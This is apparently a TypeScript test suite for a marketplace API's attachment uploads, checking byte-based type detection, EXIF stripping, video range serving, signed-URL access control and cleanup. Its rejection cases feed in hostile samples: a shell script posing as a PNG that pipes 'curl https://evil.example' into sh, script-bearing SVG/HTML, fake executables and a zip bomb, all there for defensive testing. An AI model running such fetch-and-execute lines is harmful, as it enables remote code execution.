import { randomBytes } from 'node:crypto';
import { readdir } from 'node:fs/promises';
import { request as httpRequest } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { Readable } from 'node:stream';
import { deflateRawSync } from 'node:zlib';
import { eq } from 'drizzle-orm';
import sharp from 'sharp';
import {
  ATTACHMENT_SIZE_LIMITS,
  MAX_WAITING_ATTACHMENTS,
  messagingMessages as m,
  type Attachment,
} from '@talentindia/contracts';
import { messageAttachments, messages, threadBlocks } from '../../db/schema';
import { HttpError } from '../../http-error';
import { MALFORMED_MULTIPART_MESSAGE } from '../../plugins/multipart';
import { housekeepingTask } from '../../services/housekeeping';
import { createClient, createFreelancer } from '../../testing/marketplace-fixtures';
import { createTestApp, testClock, type TestApp } from '../../testing/test-app';
import { openThread } from '../threads';
import {
  compoundFileBytes,
  docxBytes,
  FORM_BOUNDARY,
  formBody,
  mp4Bytes,
  partHead,
  pdfBytes,
  upload,
  webmBytes,
  zipOf,
} from './attachment-testing';
import { signedAttachmentUrl } from './attachment-urls';
import { claimAttachments, loadMessageAttachments } from '.';

const clock = testClock();
let t: TestApp;
type Person = { id: number; token: string };
let client: Person;
let freelancer: Person;
let otherClient: Person;
let otherFreelancer: Person;
let threadId: number;
let otherThreadId: number;

beforeAll(async () => {
  t = await createTestApp({ RATE_LIMIT_SCALE: '1000' }, { clock });
  client = await createClient(t);
  freelancer = await createFreelancer(t);
  otherClient = await createClient(t);
  otherFreelancer = await createFreelancer(t, { firstName: 'Ravi' });
  threadId = await openThread(t.app, { clientId: client.id, freelancerId: freelancer.id, jobId: null });
  otherThreadId = await openThread(t.app, { clientId: otherClient.id, freelancerId: freelancer.id, jobId: null });
});
afterAll(() => t.close());

/** Every file the uploads folder holds for attachments (partial writes and type sidecars included). */
async function storedFiles(): Promise<string[]> {
  const root = path.join(t.config.uploadsDir, 'attachments');
  const entries = await readdir(root, { recursive: true, withFileTypes: true }).catch(() => []);
  return entries.filter((entry) => entry.isFile()).map((entry) => path.join(entry.parentPath, entry.name));
}

async function rowsOf(threadOf = threadId) {
  return t.app.db.select().from(messageAttachments).where(eq(messageAttachments.threadId, threadOf));
}

/** Waits (up to 10 s) for something the api does after answering, or after a connection closed. */
async function until(condition: () => Promise<boolean>) {
  for (let tries = 0; tries < 200; tries += 1) {
    if (await condition()) return;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  throw new Error('gave up waiting');
}

/** The path and query of an absolute URL on the api, for `inject`. */
const local = (url: string) => {
  const parsed = new URL(url);
  return `${parsed.pathname}${parsed.search}`;
};

async function uploaded(token: string, file: Parameters<typeof upload>[3], ...more: Parameters<typeof upload>[3][]) {
  const response = await upload(t, token, threadId, file, ...more);
  if (response.statusCode !== 201) throw new Error(`upload failed: ${response.statusCode} ${response.body}`);
  return response.json<{ data: Attachment }>().data;
}

async function sendWith(senderId: number, ids: number[], thread = threadId) {
  const recipientId = senderId === client.id ? freelancer.id : client.id;
  return t.app.db.transaction(async (tx) => {
    const [message] = await tx
      .insert(messages)
      .values({ threadId: thread, senderId, recipientId, kind: 'text', body: '', createdAt: t.app.clock.now() })
      .returning({ id: messages.id });
    await claimAttachments(t.app, tx, { threadId: thread, uploaderId: senderId, messageId: message!.id, ids });
    return message!.id;
  });
}

describe('POST /threads/:id/attachments judges a file by its bytes', () => {
  it.each([
    ['a shell script renamed .png', 'cat.png', 'image/png', Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n')],
    [
      'an SVG',
      'logo.svg',
      'image/svg+xml',
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ],
    [
      'an SVG with an XML declaration, named .txt',
      'notes.txt',
      'text/plain',
      Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>'),
    ],
    ['an HTML file', 'page.pdf', 'application/pdf', Buffer.from('<!DOCTYPE html><html><body>Hi</body></html>')],
    ['HTML after some text', 'readme.txt', 'text/plain', Buffer.from('Hello\n<script>alert(1)</script>')],
    ['a Windows program', 'setup.pdf', 'application/pdf', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)])],
    ['an ELF program', 'photo.jpg', 'image/jpeg', Buffer.concat([Buffer.from('\x7fELF'), Buffer.alloc(200)])],
    ['binary text with NULs', 'data.txt', 'text/plain', Buffer.from('hello\0world')],
    ['an installer (another compound file)', 'setup.doc', 'application/msword', compoundFileBytes(['MsiTables'])],
    ['a Matroska video', 'film.webm', 'video/webm', webmBytes(100, 100, 'matroska')],
    ['an M4A audio file', 'song.mp4', 'video/mp4', mp4Bytes('M4A ')],
  ])('refuses %s with a 415, storing nothing', async (_name, filename, type, bytes) => {
    const response = await upload(t, client.token, threadId, { filename, type, bytes });
    expect(response.statusCode).toBe(415);
    expect(response.json()).toEqual({ status: false, message: m.attachmentTypeNotAllowed });
    expect(await rowsOf()).toEqual([]);
    expect(await storedFiles()).toEqual([]);
  });

  it('stores a PDF, a Word document (docx and doc), text, a RAR and a zip as documents, with only a download URL', async () => {
    const cases = [
      { filename: 'brief.pdf', bytes: pdfBytes(), type: 'application/pdf', name: 'brief.pdf' },
      {
        filename: 'contract.docx',
        bytes: docxBytes(),
        type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
        name: 'contract.docx',
      },
      {
        filename: 'old.doc',
        bytes: compoundFileBytes(['1Table', 'WordDocument']),
        type: 'application/msword',
        name: 'old.doc',
      },
      {
        filename: 'budget.xls',
        bytes: compoundFileBytes(['Workbook']),
        type: 'application/vnd.ms-excel',
        name: 'budget.xls',
      },
      // The name's extension is corrected to the real type, not trusted.
      {
        filename: 'notes.png',
        bytes: Buffer.from('Meeting at 10 ✓\r\nBring the brief.\n'),
        type: 'text/plain',
        name: 'notes.txt',
      },
      {
        filename: 'src.rar',
        bytes: Buffer.from('Rar!\x1a\x07\x01\x00rest', 'latin1'),
        type: 'application/vnd.rar',
        name: 'src.rar',
      },
      {
        filename: 'a/b/../design',
        bytes: zipOf([{ name: 'a.txt', bytes: Buffer.from('a') }]),
        type: 'application/zip',
        name: 'design.zip',
      },
    ];
    for (const { filename, bytes, type, name } of cases) {
      const attachment = await uploaded(client.token, { filename, type: 'application/octet-stream', bytes });
      expect(attachment).toMatchObject({ kind: 'document', name, content_type: type, size: bytes.length });
      expect(attachment.url).toBeNull();
      expect(attachment.thumb_url).toBeNull();
      const download = await t.request({ method: 'GET', url: local(attachment.download_url) });
      expect(download.statusCode).toBe(200);
      expect(download.rawPayload.equals(bytes)).toBe(true);
    }
  });

  it('tells Office files from zips by their entry names, whatever order and way the writer used', async () => {
    const xml = (text: string) => Buffer.from(`<?xml version="1.0"?>${text}`);
    const cases: [Buffer, string][] = [
      // As LibreOffice writes it: sizes after the data, the content types last.
      [
        zipOf(
          [
            { name: '_rels/.rels', bytes: xml('<Relationships/>'), deflate: true },
            { name: 'xl/workbook.xml', bytes: xml('<workbook/>'), deflate: true },
            { name: '[Content_Types].xml', bytes: xml('<Types/>'), deflate: true },
          ],
          true,
        ),
        'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      ],
      // A big picture first: only the central directory at the end names the rest.
      [
        zipOf([
          { name: 'ppt/media/image1.png', bytes: randomBytes(200 * 1024) },
          { name: 'ppt/presentation.xml', bytes: xml('<p:presentation/>'), deflate: true },
          { name: '[Content_Types].xml', bytes: xml('<Types/>'), deflate: true },
        ]),
        'application/vnd.openxmlformats-officedocument.presentationml.presentation',
      ],
      // Content types without an Office folder, or an Office-looking folder alone: a zip.
      [zipOf([{ name: '[Content_Types].xml', bytes: xml('<Types/>') }]), 'application/zip'],
      [zipOf([{ name: 'word/document.xml', bytes: xml('<w:document/>') }], true), 'application/zip'],
    ];
    for (const [bytes, type] of cases) {
      const attachment = await uploaded(client.token, { filename: 'file', type: 'application/zip', bytes });
      expect(attachment.content_type).toBe(type);
    }
  });

  it('stores a zip bomb as it came, as a zip, without opening it', async () => {
    // 50 MB of zeros deflated to a few dozen KB: inflating it would be the bomb going off.
    const bomb = zipOf([{ name: 'zeros.bin', bytes: Buffer.alloc(50 * 1024 * 1024), deflate: true }]);
    expect(bomb.length).toBeLessThan(200 * 1024);
    const attachment = await uploaded(client.token, { filename: 'archive.zip', type: 'application/zip', bytes: bomb });
    expect(attachment).toMatchObject({ kind: 'document', content_type: 'application/zip', size: bomb.length });
    const download = await t.request({ method: 'GET', url: local(attachment.download_url) });
    expect(download.headers['content-type']).toBe('application/zip');
    expect(download.rawPayload.equals(bomb)).toBe(true);
  });

  it('re-encodes an image without its EXIF (GPS included), upright, with a WebP thumbnail and its size', async () => {
    const photo = await sharp({ create: { width: 1200, height: 800, channels: 3, background: '#3366aa' } })
      .withExif({ IFD0: { ImageDescription: 'secret-place', Copyright: 'Asha' }, IFD3: { GPSLatitudeRef: 'N' } })
      .jpeg()
      .toBuffer();
    expect((await sharp(photo).metadata()).exif).toBeDefined();
    const attachment = await uploaded(freelancer.token, { filename: 'site.jpeg', type: 'image/jpeg', bytes: photo });
    expect(attachment).toMatchObject({ kind: 'image', content_type: 'image/jpeg', width: 1200, height: 800 });
    const file = await t.request({ method: 'GET', url: local(attachment.url!) });
    expect(file.statusCode).toBe(200);
    expect(file.headers['content-type']).toBe('image/jpeg');
    expect(file.headers['content-disposition']).toBe(`inline; filename="site.jpeg"; filename*=UTF-8''site.jpeg`);
    const stored = await sharp(file.rawPayload).metadata();
    expect(stored.exif).toBeUndefined();
    expect(file.rawPayload.includes('secret-place')).toBe(false);
    const thumb = await t.request({ method: 'GET', url: local(attachment.thumb_url!) });
    expect(thumb.headers['content-type']).toBe('image/webp');
    expect(await sharp(thumb.rawPayload).metadata()).toMatchObject({ format: 'webp', width: 480, height: 320 });
  });

  it('keeps an animated GIF animated', async () => {
    const frames = await Promise.all(
      ['#ff0000', '#00ff00'].map((background) =>
        sharp({ create: { width: 20, height: 10, channels: 3, background } })
          .raw()
          .toBuffer(),
      ),
    );
    const gif = await sharp(Buffer.concat(frames), { raw: { width: 20, height: 20, channels: 3, pageHeight: 10 } })
      .gif({ delay: [100, 100] })
      .toBuffer();
    const attachment = await uploaded(client.token, { filename: 'wave.gif', type: 'image/gif', bytes: gif });
    expect(attachment).toMatchObject({ kind: 'image', content_type: 'image/gif', width: 20, height: 10 });
    const file = await t.request({ method: 'GET', url: local(attachment.url!) });
    expect((await sharp(file.rawPayload).metadata()).pages).toBe(2);
  });

  it('refuses an image the decoder finds cut off (422) and stores nothing', async () => {
    const photo = await sharp({ create: { width: 300, height: 300, channels: 3, background: '#123456' } })
      .png()
      .toBuffer();
    const response = await upload(t, client.token, threadId, {
      filename: 'cut.png',
      type: 'image/png',
      bytes: photo.subarray(0, photo.length - 40),
    });
    expect(response.statusCode).toBe(422);
    expect(response.json().message).toBe(m.attachmentDamaged);
    expect(await rowsOf()).toEqual([]);
    expect(await storedFiles()).toEqual([]);
  });

  it('takes an MP4 whose boxes end at its last byte, with the poster the browser took (checked as an image)', async () => {
    const poster = await sharp({ create: { width: 640, height: 360, channels: 3, background: '#000' } })
      .png()
      .toBuffer();
    const video = mp4Bytes();
    const attachment = await uploaded(
      client.token,
      { filename: 'demo.mp4', type: 'video/mp4', bytes: video },
      { field: 'poster', filename: 'poster.png', type: 'image/png', bytes: poster },
    );
    expect(attachment).toMatchObject({ kind: 'video', content_type: 'video/mp4', size: video.length, width: 640 });
    expect(attachment.poster_url).not.toBeNull();
    const posterFile = await t.request({ method: 'GET', url: local(attachment.poster_url!) });
    expect(posterFile.headers['content-type']).toBe('image/webp');
    const file = await t.request({ method: 'GET', url: local(attachment.url!) });
    expect(file.headers['content-type']).toBe('video/mp4');
    expect(file.headers['accept-ranges']).toBe('bytes');
    expect(file.rawPayload.equals(video)).toBe(true);
    // A browser's player asks for parts of the video (Safari starts with the first two bytes).
    for (const [range, start, end] of [
      ['bytes=0-1', 0, 1],
      ['bytes=100-', 100, video.length - 1],
      ['bytes=-10', video.length - 10, video.length - 1],
      ['bytes=50-99999999', 50, video.length - 1],
    ] as const) {
      const part = await t.request({ method: 'GET', url: local(attachment.url!), headers: { range } });
      expect(part.statusCode).toBe(206);
      expect(part.headers['content-range']).toBe(`bytes ${start}-${end}/${video.length}`);
      expect(part.rawPayload.equals(video.subarray(start, end + 1))).toBe(true);
    }
    // A range outside the file, or several, is answered with the whole file.
    for (const range of [`bytes=${video.length}-`, 'bytes=0-1,5-6', 'items=0-1']) {
      const whole = await t.request({ method: 'GET', url: local(attachment.url!), headers: { range } });
      expect(whole.statusCode).toBe(200);
      expect(whole.rawPayload.equals(video)).toBe(true);
    }
    // QuickTime is told by its brand; without a poster a video has no thumbnail.
    const mov = await uploaded(client.token, { filename: 'clip.mp4', type: 'video/mp4', bytes: mp4Bytes('qt  ') });
    expect(mov).toMatchObject({ kind: 'video', content_type: 'video/quicktime', name: 'clip.mov', thumb_url: null });
  });

  it('refuses a truncated MP4 or WebM (422), and a poster that is not an image (415), storing nothing', async () => {
    const video = mp4Bytes();
    const cut = await upload(t, client.token, threadId, {
      filename: 'cut.mp4',
      type: 'video/mp4',
      bytes: video.subarray(0, video.length - 100),
    });
    expect(cut.statusCode).toBe(422);
    expect(cut.json().message).toBe(m.attachmentDamaged);
    const webmCut = await upload(t, client.token, threadId, {
      filename: 'cut.webm',
      type: 'video/webm',
      bytes: webmBytes(4000, 1000),
    });
    expect(webmCut.statusCode).toBe(422);
    const badPoster = await upload(
      t,
      client.token,
      threadId,
      { filename: 'ok.mp4', type: 'video/mp4', bytes: video },
      { field: 'poster', filename: 'p.png', type: 'image/png', bytes: Buffer.from('<svg/>') },
    );
    expect(badPoster.statusCode).toBe(415);
    expect(await rowsOf()).toEqual([]);
    expect(await storedFiles()).toEqual([]);
    expect(
      (await uploaded(client.token, { filename: 'whole.webm', type: 'video/webm', bytes: webmBytes(4000) })).kind,
    ).toBe('video');
  });

  it('refuses a file over its kind’s cap with a 413, leaving no row and no file', async () => {
    const big = Buffer.concat([pdfBytes(), Buffer.alloc(ATTACHMENT_SIZE_LIMITS.document)]);
    const response = await upload(t, client.token, threadId, {
      filename: 'big.pdf',
      type: 'application/pdf',
      bytes: big,
    });
    expect(response.statusCode).toBe(413);
    expect(response.json()).toEqual({ status: false, message: m.attachmentTooLarge });
    expect(await rowsOf()).toEqual([]);
    expect(await storedFiles()).toEqual([]);
  });

  it('leaves no row and no file when the upload breaks off mid-stream', async () => {
    const bytes = Buffer.concat([pdfBytes(), Buffer.alloc(3 * 1024 * 1024, 1)]);
    // The body ends inside the file part: no closing boundary, as when the browser goes away.
    const payload = Readable.from([partHead({ filename: 'half.pdf', type: 'application/pdf' }), bytes]);
    const response = await t.request({
      method: 'POST',
      url: `/threads/${threadId}/attachments`,
      token: client.token,
      headers: { 'content-type': `multipart/form-data; boundary=${FORM_BOUNDARY}` },
      payload,
    });
    expect(response.json()).toEqual({ status: false, message: MALFORMED_MULTIPART_MESSAGE });
    expect(await rowsOf()).toEqual([]);
    expect(await storedFiles()).toEqual([]);
  });

  it('leaves no row and no file when the browser’s connection closes mid-upload', async () => {
    await t.app.listen({ port: 0, host: '127.0.0.1' });
    const { port } = t.app.server.address() as AddressInfo;
    const upload = httpRequest({
      host: '127.0.0.1',
      port,
      method: 'POST',
      path: `/threads/${threadId}/attachments`,
      headers: {
        authorization: `Bearer ${client.token}`,
        'content-type': `multipart/form-data; boundary=${FORM_BOUNDARY}`,
        'content-length': String(20 * 1024 * 1024),
      },
    });
    upload.on('error', () => undefined);
    upload.write(Buffer.concat([partHead({ filename: 'big.pdf', type: 'application/pdf' }), pdfBytes()]));
    for (let chunk = 0; chunk < 20; chunk += 1) upload.write(Buffer.alloc(64 * 1024, 1));
    // The row is there while the bytes stream in (unfinished: no stored_at), then the tab goes away.
    await until(async () => (await rowsOf()).length === 1);
    expect((await rowsOf())[0]!.storedAt).toBeNull();
    upload.destroy();
    await until(async () => (await rowsOf()).length === 0 && (await storedFiles()).length === 0);
  });

  it('refuses a body that is not a form (415), or a form it cannot read (400)', async () => {
    const json = await t.request({
      method: 'POST',
      url: `/threads/${threadId}/attachments`,
      token: client.token,
      payload: {},
    });
    expect(json.statusCode).toBe(415);
    const broken = await t.request({
      method: 'POST',
      url: `/threads/${threadId}/attachments`,
      token: client.token,
      headers: { 'content-type': `multipart/form-data; boundary=${FORM_BOUNDARY}` },
      payload: 'this is not a form at all',
    });
    expect([broken.statusCode, broken.json().message]).toEqual([400, MALFORMED_MULTIPART_MESSAGE]);
  });

  it('asks for a file when the form has none (400)', async () => {
    const response = await t.request({
      method: 'POST',
      url: `/threads/${threadId}/attachments`,
      token: client.token,
      headers: { 'content-type': `multipart/form-data; boundary=${FORM_BOUNDARY}` },
      payload: formBody([]),
    });
    expect(response.statusCode).toBe(400);
    expect(response.json().message).toBe(m.attachmentMissing);
  });

  afterEach(async () => {
    // Each case starts from an empty thread: finished uploads are deleted as housekeeping would.
    const rows = await t.app.db.select().from(messageAttachments);
    const { discardUpload } = await import('./attachment-upload');
    for (const row of rows) if (row.messageId === null) await discardUpload(t.app, row);
  });
});

describe('who may upload', () => {
  it('is a participant of the thread: anyone else gets a 404 and nothing is stored', async () => {
    for (const outsider of [otherClient, otherFreelancer]) {
      const response = await upload(t, outsider.token, threadId, {
        filename: 'x.pdf',
        type: 'application/pdf',
        bytes: pdfBytes(),
      });
      expect(response.statusCode).toBe(404);
      expect(response.json().message).toBe(m.threadNotFound);
    }
    expect(await rowsOf()).toEqual([]);
  });

  it('stops at 20 uploads waiting to be sent (409), and takes more once some are sent', async () => {
    const pdf = { filename: 'x.pdf', type: 'application/pdf', bytes: pdfBytes() };
    const waiting: number[] = [];
    for (let index = 0; index < MAX_WAITING_ATTACHMENTS; index += 1) {
      const response = await upload(t, otherClient.token, otherThreadId, pdf);
      expect(response.statusCode).toBe(201);
      waiting.push(response.json<{ data: Attachment }>().data.id);
    }
    const refused = await upload(t, otherClient.token, otherThreadId, pdf);
    expect([refused.statusCode, refused.json().message]).toEqual([409, m.attachmentsWaiting]);
    expect(await rowsOf(otherThreadId)).toHaveLength(MAX_WAITING_ATTACHMENTS);
    await t.app.db.transaction(async (tx) => {
      const [message] = await tx
        .insert(messages)
        .values({
          threadId: otherThreadId,
          senderId: otherClient.id,
          recipientId: freelancer.id,
          kind: 'text',
          body: '',
          createdAt: clock.now(),
        })
        .returning({ id: messages.id });
      const ids = waiting.slice(0, 10);
      await claimAttachments(t.app, tx, {
        threadId: otherThreadId,
        uploaderId: otherClient.id,
        messageId: message!.id,
        ids,
      });
    });
    expect((await upload(t, otherClient.token, otherThreadId, pdf)).statusCode).toBe(201);
  });

  it('is refused (403) in a blocked thread, for both sides', async () => {
    const blocked = await openThread(t.app, { clientId: client.id, freelancerId: otherFreelancer.id, jobId: null });
    await t.app.db.insert(threadBlocks).values({ threadId: blocked, blockerId: client.id, createdAt: clock.now() });
    const file = { filename: 'x.pdf', type: 'application/pdf', bytes: pdfBytes() };
    const mine = await upload(t, client.token, blocked, file);
    expect([mine.statusCode, mine.json().message]).toEqual([403, m.blockedByYou]);
    const theirs = await upload(t, otherFreelancer.token, blocked, file);
    expect([theirs.statusCode, theirs.json().message]).toEqual([403, m.blockedByThem]);
    expect(await rowsOf(blocked)).toEqual([]);
  });
});

describe('GET /attachments/:id/:variant', () => {
  let sent: Attachment;
  let pendingOfFreelancer: Attachment;

  beforeAll(async () => {
    const uploadedFile = await uploaded(client.token, {
      filename: 'Résumé “final”.pdf',
      type: 'application/pdf',
      bytes: pdfBytes(),
    });
    await sendWith(client.id, [uploadedFile.id]);
    sent = uploadedFile;
    pendingOfFreelancer = await uploaded(freelancer.token, {
      filename: 'draft.pdf',
      type: 'application/pdf',
      bytes: pdfBytes(),
    });
  });

  it('downloads with the real type, as an attachment with its name encoded, nosniff and a sandbox policy', async () => {
    const response = await t.request({ method: 'GET', url: local(sent.download_url) });
    expect(response.statusCode).toBe(200);
    expect(response.headers).toMatchObject({
      'content-type': 'application/pdf',
      'content-disposition': `attachment; filename="R_sum_ _final_.pdf"; filename*=UTF-8''R%C3%A9sum%C3%A9%20%E2%80%9Cfinal%E2%80%9D.pdf`,
      'x-content-type-options': 'nosniff',
      'content-security-policy': "default-src 'none'; sandbox",
      'cache-control': 'private, max-age=3600',
    });
    expect(response.rawPayload.equals(pdfBytes())).toBe(true);
  });

  it('serves both participants, by their signed URLs or their Bearer header', async () => {
    const messageId = await messageOf(sent.id);
    const [forFreelancer] = (await loadMessageAttachments(t.app, freelancer.id, [messageId])).get(messageId)!;
    expect(new URL(forFreelancer!.download_url).searchParams.get('viewer')).toBe(String(freelancer.id));
    const signed = await t.request({ method: 'GET', url: local(forFreelancer!.download_url) });
    expect(signed.statusCode).toBe(200);
    for (const person of [client, freelancer]) {
      const bearer = await t.request({ method: 'GET', url: `/attachments/${sent.id}/download`, token: person.token });
      expect(bearer.statusCode).toBe(200);
    }
  });

  it('is a 404 for a second client and a second freelancer: with their own Bearer, or a URL signed for someone else', async () => {
    for (const outsider of [otherClient, otherFreelancer]) {
      const bearer = await t.request({ method: 'GET', url: `/attachments/${sent.id}/download`, token: outsider.token });
      expect([bearer.statusCode, bearer.json().message]).toEqual([404, m.attachmentNotFound]);
      // The participant's URL with the outsider's id put in: the signature no longer matches.
      const borrowed = new URL(sent.download_url);
      borrowed.searchParams.set('viewer', String(outsider.id));
      const swapped = await t.request({ method: 'GET', url: local(borrowed.href) });
      expect([swapped.statusCode, swapped.json().message]).toEqual([404, m.attachmentNotFound]);
      // Even a valid signature for them is refused: they are not a participant.
      const theirOwn = await t.request({
        method: 'GET',
        url: local(signedAttachmentUrl(t.app, sent.id, 'download', outsider.id)),
      });
      expect(theirOwn.statusCode).toBe(404);
    }
  });

  it('refuses an expired or altered signature, and a document’s inline variant, with a 404', async () => {
    const url = new URL(sent.download_url);
    url.searchParams.set('signature', `${url.searchParams.get('signature')!.slice(0, -2)}AA`);
    expect((await t.request({ method: 'GET', url: local(url.href) })).statusCode).toBe(404);
    const inline = await t.request({ method: 'GET', url: `/attachments/${sent.id}/file`, token: client.token });
    expect(inline.statusCode).toBe(404);
    clock.advance(2 * 60 * 60 * 1000);
    try {
      const expired = await t.request({ method: 'GET', url: local(sent.download_url) });
      expect([expired.statusCode, expired.json().message]).toEqual([404, m.attachmentNotFound]);
    } finally {
      clock.advance(-2 * 60 * 60 * 1000);
    }
  });

  it('shows an upload not yet sent to its uploader only', async () => {
    const own = await t.request({ method: 'GET', url: local(pendingOfFreelancer.download_url) });
    expect(own.statusCode).toBe(200);
    const other = await t.request({
      method: 'GET',
      url: `/attachments/${pendingOfFreelancer.id}/download`,
      token: client.token,
    });
    expect(other.statusCode).toBe(404);
  });

  it('asks for a session without a signature (401)', async () => {
    const response = await t.request({ method: 'GET', url: `/attachments/${sent.id}/download` });
    expect(response.statusCode).toBe(401);
  });
});

async function messageOf(attachmentId: number): Promise<number> {
  const [row] = await t.app.db.select().from(messageAttachments).where(eq(messageAttachments.id, attachmentId));
  return row!.messageId!;
}

describe('claimAttachments', () => {
  const pdf = { filename: 'x.pdf', type: 'application/pdf', bytes: pdfBytes() };

  it('puts the sender’s finished uploads into the message, which then carries them', async () => {
    const first = await uploaded(freelancer.token, pdf);
    const second = await uploaded(freelancer.token, { ...pdf, filename: 'y.pdf' });
    const messageId = await sendWith(freelancer.id, [second.id, first.id]);
    const attachments = (await loadMessageAttachments(t.app, client.id, [messageId])).get(messageId)!;
    expect(attachments.map((attachment) => attachment.id)).toEqual([first.id, second.id]);
  });

  it('refuses another user’s upload, another thread’s, one already sent, or one unfinished (422), claiming none', async () => {
    const clients = await uploaded(client.token, pdf);
    const elsewhere = await upload(t, freelancer.token, otherThreadId, pdf);
    const elsewhereId = elsewhere.json<{ data: Attachment }>().data.id;
    const mine = await uploaded(freelancer.token, pdf);
    const alreadySent = await uploaded(freelancer.token, pdf);
    await sendWith(freelancer.id, [alreadySent.id]);
    const [unfinished] = await t.app.db
      .insert(messageAttachments)
      .values({
        threadId,
        uploaderId: freelancer.id,
        kind: 'document',
        name: 'x.pdf',
        contentType: 'application/pdf',
        size: 0,
        storageKey: 'attachments/unfinished/file.bin',
        createdAt: clock.now(),
      })
      .returning();
    for (const stranger of [clients.id, elsewhereId, alreadySent.id, unfinished!.id]) {
      const attempt = sendWith(freelancer.id, [mine.id, stranger]);
      await expect(attempt).rejects.toThrow(HttpError);
      await expect(attempt).rejects.toMatchObject({ statusCode: 422, message: m.attachmentNotYours });
    }
    const [still] = await t.app.db.select().from(messageAttachments).where(eq(messageAttachments.id, mine.id));
    expect(still!.messageId).toBeNull();
  });
});

describe('housekeeping', () => {
  it('deletes uploads not sent within an hour, with their files, and keeps sent ones', async () => {
    const photo = await sharp({ create: { width: 40, height: 40, channels: 3, background: '#fff' } })
      .png()
      .toBuffer();
    const unsent = await uploaded(client.token, { filename: 'p.png', type: 'image/png', bytes: photo });
    const kept = await uploaded(client.token, { filename: 'k.png', type: 'image/png', bytes: photo });
    await sendWith(client.id, [kept.id]);
    const [unsentRow] = await t.app.db.select().from(messageAttachments).where(eq(messageAttachments.id, unsent.id));
    const folder = path.dirname(path.join(t.config.uploadsDir, unsentRow!.storageKey));
    expect((await storedFiles()).filter((file) => file.startsWith(folder))).not.toEqual([]);

    clock.advance(59 * 60 * 1000);
    await housekeepingTask.run(t.app, { from: null, to: clock.now() });
    expect(
      (await t.request({ method: 'GET', url: `/attachments/${unsent.id}/file`, token: client.token })).statusCode,
    ).toBe(200);

    clock.advance(2 * 60 * 1000);
    await housekeepingTask.run(t.app, { from: null, to: clock.now() });
    const left = await t.app.db.select().from(messageAttachments).where(eq(messageAttachments.id, unsent.id));
    expect(left).toEqual([]);
    expect((await storedFiles()).filter((file) => file.startsWith(folder))).toEqual([]);
    const sentFile = await t.request({ method: 'GET', url: `/attachments/${kept.id}/file`, token: freelancer.token });
    expect(sentFile.statusCode).toBe(200);
  });

  it('deletes an upload a crash left unfinished, and what it wrote', async () => {
    const key = 'attachments/crashed-upload/file.bin';
    await t.app.storage.put(key, deflateRawSync(Buffer.from('half')), 'application/pdf');
    await t.app.db.insert(messageAttachments).values({
      threadId,
      uploaderId: client.id,
      kind: 'document',
      name: 'x.pdf',
      contentType: 'application/pdf',
      size: 0,
      storageKey: key,
      createdAt: clock.now(),
    });
    clock.advance(61 * 60 * 1000);
    await housekeepingTask.run(t.app, { from: null, to: clock.now() });
    expect(await t.app.db.select().from(messageAttachments).where(eq(messageAttachments.storageKey, key))).toEqual([]);
    expect((await storedFiles()).filter((file) => file.includes('crashed-upload'))).toEqual([]);
  });
});
